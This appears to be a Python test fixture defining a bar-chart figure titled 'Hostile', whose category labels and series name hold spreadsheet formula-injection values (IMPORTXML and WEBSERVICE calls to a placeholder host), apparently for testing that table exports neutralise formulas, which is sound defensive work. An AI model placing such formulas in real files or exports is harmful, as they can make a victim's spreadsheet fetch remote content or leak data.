"""The same as the categories of a figure, which are also shown as a table."""

OUTPUT = {
    "kind": "figure",
    "figure": {
        "data": [
            {
                "type": "bar",
                "x": ['=IMPORTXML("http://elsewhere.invalid/xml";"//a")', "=1+1"],
                "y": [1, 2],
                "name": '=WEBSERVICE("http://elsewhere.invalid/web")',
            }
        ],
        "layout": {},
    },
    "title": "Hostile",
}
